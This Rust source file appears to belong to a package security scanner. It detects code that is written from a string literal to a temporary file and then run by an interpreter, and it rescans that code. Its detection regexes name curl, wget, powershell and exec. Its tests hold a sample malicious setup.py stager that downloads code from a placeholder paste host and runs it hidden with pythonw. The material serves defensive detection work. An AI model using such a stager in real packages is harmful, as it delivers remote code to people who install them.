//! The temp-file stager: code carried in a string literal, written to a file (often a
//! `NamedTemporaryFile` or a `.py` path) and started with an interpreter (`sys.executable`, `pythonw`,
//! `node`, `start …`). What runs is the literal, so the literal is scanned again as code with the whole rule
//! set and what it holds is reported at the literal, keeping each rule's own action: a stager whose script
//! fetches and runs remote code blocks, one whose script only prints stays at this rule's review.

use super::deobfuscate::MAX_DEPTH;
use super::write_run::{names_file, runs_program, too_large_for_droppers, writes, Key};
use super::FileDetector;
use crate::ascii_classes::ascii_regex;
use crate::compile::{CompiledRule, Matcher, RuleSet};
use crate::matchers::{Hit, HitDetail};
use crate::scan::{report_at_outer_span, snippet, FileScan, OuterSpan, SourceFile};
use crate::segment::Segment;
use regex::Regex;
use skill_scan_model::{FileKind, Language, LineIndex, RelatedLocation};
use std::sync::LazyLock;

/// The native name of the rule.
pub(crate) const STAGER_DETECTOR: &str = "code-written-then-run";
/// Literal code read per file (over all its stagers).
const MAX_STAGED_BYTES: usize = 256 * 1024;
/// The message quotes this much of the written code.
const MAX_QUOTED_CHARS: usize = 120;

pub(crate) static CODE_WRITTEN_THEN_RUN: FileDetector = FileDetector {
    literals: &["write"],
    run: report_stagers,
};

// Constant patterns (their tests compile them): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static CODE: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"\bexec\s*\(|\beval\s*\(|\bimport\s+\w|\brequire\s*\(|\bos\.system\b|\bsubprocess\b|\burlopen\b|\brequests\.\w+\(|\bchild_process\b|\bcurl\s|\bwget\s|\bpowershell\b")
        .expect("code pattern")
});
#[allow(clippy::expect_used)]
static INTERPRETER: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"(?i)\b(?:executable|pythonw?[0-9.]*|py|node|powershell|pwsh|wscript|cscript|bash|sh|cmd|start)\b")
        .expect("interpreter pattern")
});
/// Script files a shell association starts by name.
const SCRIPT_EXTENSIONS: &[&str] = &[".py", ".pyw", ".js", ".vbs", ".bat", ".cmd", ".ps1", ".sh"];

/// One stager, in file offsets.
#[derive(Debug, Clone)]
pub(crate) struct Staged {
    pub run: (usize, usize),
    pub runner: String,
    pub literal: (usize, usize),
    pub code: String,
}

/// The stagers of a segment: code literals written to a file that a later call runs.
pub(crate) fn staged(segment: &Segment, text: &str) -> Vec<Staged> {
    let body = segment.text(text);
    if too_large_for_droppers(segment, body) || !body.contains("write") {
        return Vec::new();
    }
    let all = super::write_run::segment_calls(segment, text);
    let mut out = Vec::new();
    for write in writes(body, all) {
        let Some((start, end, code)) = &write.literal else {
            continue;
        };
        if code.trim().len() < 16 || !CODE.is_match(code) {
            continue;
        }
        let run = all.iter().find(|c| {
            c.start > write.at
                && runs_program(&c.name)
                // `python -m tool file.py` hands the file to a tool (a type checker, a test runner).
                && !["\"-m\"", "'-m'", " -m "].iter().any(|m| c.args.contains(m))
                && write.keys.iter().any(|key| {
                    names_file(&c.args, key)
                        && (INTERPRETER.is_match(&c.args)
                            || c.name == "os.startfile"
                            || matches!(key, Key::File(f) if SCRIPT_EXTENSIONS.iter().any(|e| f.ends_with(e))))
                })
        });
        if let Some(run) = run {
            out.push(Staged {
                run: (segment.start + run.start, segment.start + run.end),
                runner: run.name.clone(),
                literal: (segment.start + start, segment.start + end),
                code: code.clone(),
            });
        }
    }
    out
}

fn report_stagers(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    for stager in staged(segment, text) {
        let hit = Hit {
            start: stager.run.0,
            end: stager.run.1,
            detail: Some(Box::new(HitDetail {
                message: format!(
                    "code from a string literal is written to a file that `{}` then runs: \"{}\"",
                    stager.runner,
                    quote(&stager.code)
                ),
                related: vec![(stager.literal.0, "the code written".to_string())],
            })),
        };
        if !keep(hit) {
            return;
        }
    }
}

fn quote(text: &str) -> String {
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
    match flat.char_indices().nth(MAX_QUOTED_CHARS) {
        Some((cut, _)) => format!("{}…", &flat[..cut]),
        None => flat,
    }
}

pub(crate) fn is_stager_rule(rule: &CompiledRule) -> bool {
    matches!(&rule.matcher, Matcher::Native { name, .. } if name == STAGER_DETECTOR)
}

/// The language the written code is read in: what runs it says, else Python (the usual stager).
fn staged_language(code: &str, runner_args: &str) -> Language {
    let args = runner_args.to_ascii_lowercase();
    if args.contains("node") || args.contains(".js") || code.contains("require(") {
        Language::Javascript
    } else if args.contains("bash")
        || args.contains(".sh")
        || code.trim_start().starts_with("#!/bin/")
    {
        Language::Shell
    } else if args.contains("powershell") || args.contains(".ps1") {
        Language::Powershell
    } else {
        Language::Python
    }
}

/// A rescan the detector set runs after a file's rules (see `crate::passes`), as a method of the rule set
/// it scans with.
pub(crate) trait RescanStaged {
    fn rescan_staged(
        &self,
        file: &SourceFile,
        segments: &[Segment],
        keep: &dyn Fn(&CompiledRule) -> bool,
        depth: usize,
        out: &mut FileScan,
    );
}

impl RescanStaged for RuleSet {
    /// Scans the code each stager of `file` writes with the rules `keep` accepts, and reports what it
    /// holds at the literal (the context is the run's: the code runs, whatever quotes hold it).
    fn rescan_staged(
        &self,
        file: &SourceFile,
        segments: &[Segment],
        keep: &dyn Fn(&CompiledRule) -> bool,
        depth: usize,
        out: &mut FileScan,
    ) {
        if depth >= MAX_DEPTH {
            return;
        }
        let mut budget = MAX_STAGED_BYTES;
        let mut lines: Option<LineIndex> = None;
        for segment in segments {
            for stager in staged(segment, file.text) {
                if stager.code.len() > budget {
                    out.notes.push(format!(
                        "code written then run: stopped after {} bytes of written code",
                        MAX_STAGED_BYTES - budget
                    ));
                    return;
                }
                budget -= stager.code.len();
                let runner_args = file.text.get(stager.run.0..stager.run.1).unwrap_or("");
                let language = staged_language(&stager.code, runner_args);
                let inner = SourceFile {
                    rel_path: file.rel_path,
                    text: &stager.code,
                    kind: match language {
                        Language::Javascript => FileKind::Javascript,
                        Language::Shell => FileKind::Shell,
                        Language::Powershell => FileKind::Powershell,
                        _ => FileKind::Python,
                    },
                    scope: file.scope,
                    language,
                    role: file.role,
                    import_entry: false,
                };
                let scan = self.scan_at_depth(&inner, keep, depth + 1);
                if scan.findings.is_empty() {
                    continue;
                }
                let context = segment.context_at(file.text, stager.run.0);
                let lines = lines.get_or_insert_with(|| LineIndex::new(file.text));
                let (line, column) = lines.position(file.text, stager.literal.0);
                let (end_line, end_column) = lines.position(file.text, stager.literal.1);
                let (run_line, run_column) = lines.position(file.text, stager.run.0);
                let (shown, highlight) =
                    snippet(file.text, lines, stager.literal.0, stager.literal.1);
                let at = OuterSpan {
                    line,
                    column,
                    end_line,
                    end_column,
                    snippet: shown,
                    highlight,
                    context,
                };
                let mut reported = std::collections::HashSet::new();
                for mut finding in scan.findings {
                    let applies = self
                        .get(&finding.rule_id)
                        .is_some_and(|rule| rule.contexts.contains(&context));
                    if !applies
                        || !reported.insert((finding.rule_id.clone(), finding.message.clone()))
                    {
                        continue;
                    }
                    finding.message = format!(
                        "in code written to a file and run: {} ({})",
                        finding.message, finding.rule_id
                    );
                    let origin = RelatedLocation {
                        path: file.rel_path.to_string(),
                        line: run_line,
                        column: run_column,
                        message: format!("run here by `{}`", stager.runner),
                    };
                    report_at_outer_span(&mut finding, file, &at, origin, |related| {
                        format!("{} (written code, line {})", related.message, related.line)
                    });
                    out.findings.push(finding);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::segment::segment_file;
    use skill_scan_model::{ArtifactScope, FileRole, RecommendedAction};

    const STAGER: &str = "from tempfile import NamedTemporaryFile as _tf\nfrom sys import executable as _py\nfrom os import system as _run\n_t = _tf(delete=False)\n_t.write(b\"\"\"from urllib.request import urlopen;exec(urlopen('https://paste.example.invalid/raw/1').read())\"\"\")\n_t.close()\ntry: _run(f\"start {_py.replace('.exe', 'w.exe')} {_t.name}\")\nexcept Exception: pass\n";

    fn found(text: &str) -> Vec<Staged> {
        segment_file(text, Language::Python, "setup.py")
            .iter()
            .flat_map(|s| staged(s, text))
            .collect()
    }

    #[test]
    fn a_temp_script_started_with_the_interpreter_is_a_stager() {
        let all = found(STAGER);
        assert_eq!(all.len(), 1, "{all:?}");
        assert_eq!(all[0].runner, "os.system");
        assert!(all[0]
            .code
            .starts_with("from urllib.request import urlopen;exec("));
        let to_file = "import subprocess, sys\nSCRIPT = 'import os\\nos.system(\"id\")\\n'\nwith open('helper.py', 'w') as f:\n    f.write(SCRIPT)\nsubprocess.Popen([sys.executable, 'helper.py'])\n";
        assert_eq!(found(to_file).len(), 1);
        // The written code padded to 2 MB: the module is still two statements around one literal.
        let padded = format!(
            "import os, sys\nCODE = b'''import os\nos.system(\"id\")\n#{}'''\nwith open('helper.py', 'wb') as f:\n    f.write(CODE)\nos.system(sys.executable + ' helper.py')\n",
            "x".repeat(2 << 20)
        );
        assert_eq!(found(&padded).len(), 1);
    }

    #[test]
    fn templates_written_but_not_run_or_data_files_are_quiet() {
        // A project generator writes a script for the user and never runs it.
        let generator = "import subprocess\nwith open('manage.py', 'w') as f:\n    f.write('import os\\nimport sys\\nprint(sys.argv)\\n')\nsubprocess.run(['git', 'init'])\n";
        assert!(found(generator).is_empty());
        // Data, not code, passed to a program.
        let data = "import subprocess\nwith open('list.txt', 'w') as f:\n    f.write('alpha beta gamma delta')\nsubprocess.run(['sort', 'list.txt'])\n";
        assert!(found(data).is_empty());
        let checked = "import subprocess, sys\nwith open('a.py', 'w') as f:\n    f.write('import os\\ndef foo() -> int: return 1\\n')\nsubprocess.run([sys.executable, '-m', 'mypy', 'a.py'])\n";
        assert!(found(checked).is_empty());
    }

    #[test]
    fn the_written_code_is_scanned_and_blocks_on_its_own_findings() {
        let rules = RuleSet::embedded(&crate::DETECTORS).unwrap();
        let file = SourceFile {
            rel_path: "setup.py",
            text: STAGER,
            kind: FileKind::Python,
            scope: ArtifactScope::PackageRootArtifact,
            language: Language::Python,
            role: FileRole::Source,
            import_entry: false,
        };
        let scan = rules.scan(&file);
        let inner: Vec<_> = scan
            .findings
            .iter()
            .filter(|f| f.message.starts_with("in code written to a file and run: "))
            .collect();
        assert!(
            inner
                .iter()
                .any(|f| f.action == RecommendedAction::Block && f.line == 5),
            "{:#?}",
            scan.findings
        );
        assert!(scan
            .findings
            .iter()
            .any(|f| f.message.contains("then runs")));
    }
}
